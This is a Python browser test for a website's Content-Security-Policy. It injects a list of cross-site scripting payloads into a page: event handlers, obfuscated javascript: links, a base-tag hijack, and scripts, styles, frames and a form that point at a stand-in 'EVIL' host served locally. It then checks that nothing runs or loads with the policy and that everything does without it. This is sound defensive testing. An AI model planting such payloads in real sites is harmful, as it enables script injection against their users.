"""The Content-Security-Policy as a second line: what the content check would refuse does nothing in a browser either."""

from __future__ import annotations

import json
import shutil
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import TYPE_CHECKING, Final

import pytest

from tests.browser.serving import POLICY, served
from tests.security.running_server import wait_until

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser
TRICKS: Final = """
<base href="//EVIL/base/">
<p data-click onclick="ran('onclick')" onfocus="ran('onfocus')" tabindex="0">a</p>
<a data-click href=javascript&colon;ran('colon')>b</a> <a data-click href="java&#9;script:ran('tab')">c</a>
<a data-click href="javascript:ran('link')">Exit this page</a>
<script>ran('inline')</script> <script src="//EVIL/script.js"></script> <script type="module" src="data:text/javascript,ran('data')"></script>
<img src="//EVIL/picture.png" onerror="ran('onerror')"> <svg onload="ran('svg')"></svg>
<details open ontoggle="ran('ontoggle')"><summary>d</summary></details>
<link rel="stylesheet" href="//EVIL/style.css"> <style>p { background: url(//EVIL/style.png) }</style>
<p style="background: url(//EVIL/attribute.png)">e</p>
<iframe src="//EVIL/frame"></iframe> <iframe srcdoc="<script>parent.ran('srcdoc')</script>"></iframe>
<object data="//EVIL/object"></object> <embed src="//EVIL/embed"> <video src="//EVIL/video"></video>
<iframe name="target"></iframe> <form data-submit action="//EVIL/form" target="target" method="post"><input name="f"></form>
"""
KINDS: Final = {"onclick", "colon", "tab", "link", "inline", "data", "onerror", "svg", "ontoggle", "srcdoc"}
REMOTE: Final = {"script.js", "picture.png", "style.css", "attribute.png", "frame", "object", "form"}


@pytest.fixture
def stranger() -> Iterator[tuple[str, set[str]]]:
    """Run another site, and keep what was asked of it."""
    asked: set[str] = set()

    class Stranger(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.add(self.path.rpartition("/")[2])
            self.send_error(404)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_words: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Stranger)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"localhost:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.mark.asvs("3.4.3")
@pytest.mark.parametrize("with_policy", [True, False], ids=["policy", "control"])
def test_nothing_of_a_page_with_every_trick_runs_or_leaves(
    browser: Browser,
    site: Path,
    tmp_path: Path,
    stranger: tuple[str, set[str]],
    with_policy: bool,  # noqa: FBT001
) -> None:
    """Handlers, javascript: links, scripts, styles, frames, forms and pictures of others do nothing; without the policy they do."""
    address, asked = stranger
    headers = json.loads((site / "headers.json").read_text(encoding="utf-8"))
    if not with_policy:
        headers = {
            path: {name: text for name, text in each.items() if name != POLICY} for path, each in headers.items()
        }
    (tmp_path / "headers.json").write_text(json.dumps(headers), encoding="utf-8")
    shutil.copytree(site / "assets", tmp_path / "assets")
    text = (site / "about" / "index.html").read_text(encoding="utf-8")
    planted = text.replace("</main>", TRICKS.replace("EVIL", address) + "</main>", 1)
    assert planted != text
    (tmp_path / "index.html").write_text(planted, encoding="utf-8")
    with served(tmp_path) as origin:
        page = browser.new_page()
        page.add_init_script("window.seen = []; window.ran = word => window.seen.push(word)")
        page.goto(origin, wait_until="load")
        page.evaluate("document.querySelectorAll('[data-click]').forEach(each => each.click())")
        page.evaluate("document.querySelector('[data-submit]').submit()")
        page.wait_for_load_state("networkidle")
        if with_policy:
            assert (page.evaluate("window.seen"), asked) == ([], set())
        else:
            wait_until(lambda: asked >= REMOTE and {*page.evaluate("window.seen")} >= KINDS)
        page.close()
